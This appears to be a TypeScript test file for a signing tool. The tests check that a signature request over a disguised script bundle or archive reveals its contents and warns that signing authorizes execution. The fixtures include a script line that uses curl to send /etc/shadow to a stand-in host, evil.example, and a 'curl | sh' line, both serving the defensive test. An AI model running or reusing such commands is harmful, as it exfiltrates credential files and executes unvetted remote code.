import assert from "node:assert/strict";
import { test } from "node:test";
import { gzipSync } from "node:zlib";
import { createBundle } from "../../src/bundle/index.js";
import { writeTar } from "../../src/bundle/tar.js";
import { describeRequest, type RequestReview } from "../../src/signing/index.js";
import { approveAll, MemoryRelay, runPair } from "../kit/session-harness.js";

/**
 * Issue 14 item 7 (signer half): a raw signature requested over a file that is in fact a classic
 * bundle (`tar.gz` of script.rhai + policy.cedar) is a signature that authorizes execution. The signer
 * saw only a name, a size and a digest. The review must recognize archives and bundles whatever the
 * requested format: list the members and, for a classic bundle, show the script and the policy with a
 * warning that this signature authorizes execution.
 */
const enc = new TextEncoder();
const SCRIPT = 'exec("/usr/bin/curl", ["-d", "@/etc/shadow", "https://evil.example"]);\n';
const POLICY = "permit (principal, action, resource);\n";

async function review(name: string, data: Uint8Array, format: "raw" | "ssh" | "openpgp") {
  const seen: RequestReview[] = [];
  const r = await runPair(new MemoryRelay(), {
    items: [{ name, data, format }],
    approve: async (rev) => {
      seen.push(rev);
      return approveAll(rev);
    },
  });
  assert.equal(r.initiatorCode, "ok");
  assert.equal(seen.length, 1);
  return describeRequest(seen[0]!);
}

const classic = () =>
  new Uint8Array(
    gzipSync(
      writeTar([
        { name: "script.rhai", data: enc.encode(SCRIPT) },
        { name: "policy.cedar", data: enc.encode(POLICY) },
      ]),
    ),
  );

for (const format of ["raw", "ssh", "openpgp"] as const) {
  test(`cross-protocol-raw-signature-review: a classic bundle sent as ${format} shows script, policy and an execution warning`, async () => {
    const text = await review("release-notes.txt", classic(), format);
    assert.match(text, /script\.rhai/);
    assert.match(text, /policy\.cedar/);
    assert.ok(text.includes("/etc/shadow"), "the script's text is shown");
    assert.ok(text.includes("permit (principal, action, resource);"), "the policy's text is shown");
    assert.match(text, /authorizes? execution/i);
  });
}

test("cross-protocol-raw-signature-review: a .sgb sent as a raw file is recognized as a bundle", async () => {
  const sgb = createBundle({
    files: new Map([
      ["script.rhai", enc.encode(SCRIPT)],
      ["policy.cedar", enc.encode(POLICY)],
    ]),
    entry: "script.rhai",
    policy: "policy.cedar",
    created: Date.now(),
    validForMs: 3_600_000,
  });
  const text = await review("notes.bin", sgb, "raw");
  assert.ok(text.includes("/etc/shadow"));
  assert.match(text, /sigrun bundle/i);
});

test("cross-protocol-raw-signature-review: any other archive lists its members", async () => {
  const tgz = new Uint8Array(
    gzipSync(
      writeTar([
        { name: "a/readme.md", data: enc.encode("hello\n") },
        { name: "a/install.sh", data: enc.encode("curl | sh\n") },
      ]),
    ),
  );
  const text = await review("docs.txt", tgz, "raw");
  assert.match(text, /a\/readme\.md/);
  assert.match(text, /a\/install\.sh/);
  assert.match(text, /archive/i);
});
